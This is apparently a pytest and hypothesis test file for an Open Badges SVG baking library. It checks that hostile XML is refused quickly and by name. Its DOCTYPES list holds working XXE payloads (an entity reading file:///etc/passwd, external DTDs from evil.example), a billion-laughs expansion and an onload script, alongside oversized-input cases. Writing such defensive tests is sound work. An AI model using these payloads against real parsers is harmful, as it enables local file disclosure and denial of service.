"""Hostile SVG pictures: refused by name and in time."""

import contextlib
import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.openbadges.svg_pictures import CREDENTIAL, JWS, ONE, PLAIN, SVG, picture, refusal

from hexmark.openbadges import limits
from hexmark.openbadges.baking import bake, image_type, unbake
from hexmark.openbadges.errors import BakedError, TooLarge

# Hostile XML


DOCTYPES = [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE test [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">',
    '<!DOCTYPE svg PUBLIC "-//EVIL//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY x "y">]>',
    "<!DOCTYPE svg>",
    "<!DOCTYPE svg []>",
    '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    '<!DOCTYPE quadratic [<!ENTITY a "' + "a" * 50_000 + '">]>',
    '<?xml version="1.0"?><!-- harmless --><!DOCTYPE svg [<!ATTLIST g onload CDATA "alert(1)">]>',
]


@pytest.mark.parametrize("doctype", DOCTYPES)
def test_a_document_type_is_refused_with_all_that_it_could_bring(doctype):
    assert refusal(BakedError, picture("&c;" + ONE, before=doctype)) == "XML_DTD_FORBIDDEN"
    with pytest.raises(BakedError):
        bake(picture(before=doctype), CREDENTIAL)


PUBLIC = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'


@pytest.mark.parametrize(
    "doctype",
    [
        PUBLIC,
        '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: some program -->\n' + PUBLIC,
        "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.0//EN'\n 'http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd' >",
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 20010904//EN" "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">',
    ],
)
def test_the_public_document_types_of_svg_are_read_over_and_kept(doctype):
    image = picture(before=doctype)
    baked = bake(image, CREDENTIAL)
    assert unbake(baked) == CREDENTIAL
    assert doctype.encode() in baked


@pytest.mark.parametrize("inside", ['<openbadges:credential verify="a.b&x;.c"/>', "<openbadges:credential>{&x;}</openbadges:credential>"])
def test_an_unknown_entity_does_not_vanish_behind_a_public_document_type(inside):
    assert refusal(BakedError, picture(inside, before=PUBLIC)) == "SVG_MALFORMED"


@pytest.mark.parametrize("declared", ["UTF-7", "UTF-16", "ISO-8859-1", "EBCDIC-CP-US", "windows-1252", ""])
def test_another_declared_encoding_is_refused(declared):
    assert refusal(BakedError, picture(ONE, before=f'<?xml version="1.0" encoding="{declared}"?>')) == "XML_ENCODING"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "cp037"])
def test_another_encoding_is_refused(codec):
    text = '<?xml version="1.0"?>' + picture(ONE).decode()
    assert refusal(BakedError, text.encode(codec)) == "XML_ENCODING"


def test_bytes_that_are_not_utf_8_are_refused():
    assert refusal(BakedError, picture("\x00").replace(b"\x00", b"\xff")) == "XML_ENCODING"
    assert refusal(BakedError, b"+ADw-svg+AD4-") == "TYPE_MISMATCH"


@pytest.mark.parametrize(
    "image",
    [
        picture(ONE)[:-1],
        picture(ONE) + b"<more/>",
        picture("<g>"),
        picture(ONE, root=SVG),
        picture("\x0b"),
        picture('<g a="1" a="2"/>'),
        b'<?xml version="1.0" version="1.0"?><svg/>',
    ],
)
def test_what_is_not_well_formed_is_refused(image):
    assert refusal(BakedError, image) == "SVG_MALFORMED"


@pytest.mark.parametrize(
    "image", [b"<svgx/>", b"<x:svg.z/>", b"<html/>", b"<?xml version='1.0'?><html/>", b"<!DOCTYPE HTML><svg/>", b"svg"]
)
def test_what_is_no_svg_picture_is_refused(image):
    assert refusal(BakedError, image) == "TYPE_MISMATCH"


def test_a_root_called_svg_in_another_namespace_is_no_svg_picture():
    assert refusal(BakedError, b'<svg xmlns="urn:other"/>') == "TYPE_MISMATCH"
    assert image_type(picture()) == "svg"


@pytest.mark.parametrize(
    "inside",
    [
        "<path d='" + "M0 0 " * 10_000_000 + "'/>",
        "<a/>" * 1_000_000,
        "<g>" * 10_000 + "</g>" * 10_000,
    ],
    ids=["50 MB", "a million elements", "ten thousand deep"],
)
def test_a_picture_that_is_too_large_is_refused_in_time(inside):
    image = picture(inside)
    began = time.process_time()
    assert refusal(TooLarge, image).startswith("SVG_TOO_LARGE/")
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    "image",
    [
        b"<!--" + b"-" * 1_000_000,
        b"<!-- a" * 200_000,
        b"<?" * 500_000,
        b" " * 1_000_000,
        b"<?xml " + b"encoding" * 100_000,
        b"<svg " + b"a='" * 300_000,
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG ' + b" " * 1_000_000,
    ],
)
def test_a_hostile_beginning_costs_no_time(image):
    began = time.process_time()
    with pytest.raises(BakedError):
        unbake(image)
    assert time.process_time() - began < 0.5


@pytest.mark.parametrize("inside", ["<openbadges:credential>{%s}</openbadges:credential>", '<openbadges:credential verify="%s"/>'])
def test_a_credential_larger_than_any_document_is_refused(inside):
    assert refusal(TooLarge, picture(inside % (" a" * (limits.DOCUMENT_BYTES // 2) + "a"))) == "BAKED_TOO_LARGE"


# Properties


XML_TEXT = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff") | st.sampled_from("]>&<\r\n\t"))


@given(XML_TEXT)
def test_baking_and_unbaking_are_each_other_s_inverse(text):
    credential = f'{{"a":{text}}}'
    assert unbake(bake(PLAIN, credential)) == credential


@given(st.dictionaries(st.text(max_size=8), st.text(max_size=30), max_size=5))
def test_any_json_comes_out_meaning_the_same(document):
    assert json.loads(unbake(bake(PLAIN, json.dumps(document, ensure_ascii=False)))) == document


GOOD = bake(PLAIN, CREDENTIAL)


@given(st.integers(0, len(GOOD) - 1), st.binary(max_size=12), st.integers(0, 12))
def test_hostile_changes_are_read_or_refused_and_nothing_else_happens(position, inserted, removed):
    changed = GOOD[:position] + inserted + GOOD[position + removed :]
    with contextlib.suppress(BakedError, TooLarge):
        unbake(changed)
    with contextlib.suppress(BakedError, TooLarge):
        assert unbake(bake(changed, JWS)) == JWS


@given(st.binary(max_size=100), st.sampled_from([b"", b"<svg", b"<svg>", b"<?xml", b"<!DOCTYPE"]))
def test_hostile_bytes_are_refused_and_nothing_else_happens(noise, start):
    with pytest.raises(BakedError):
        unbake(start + noise)
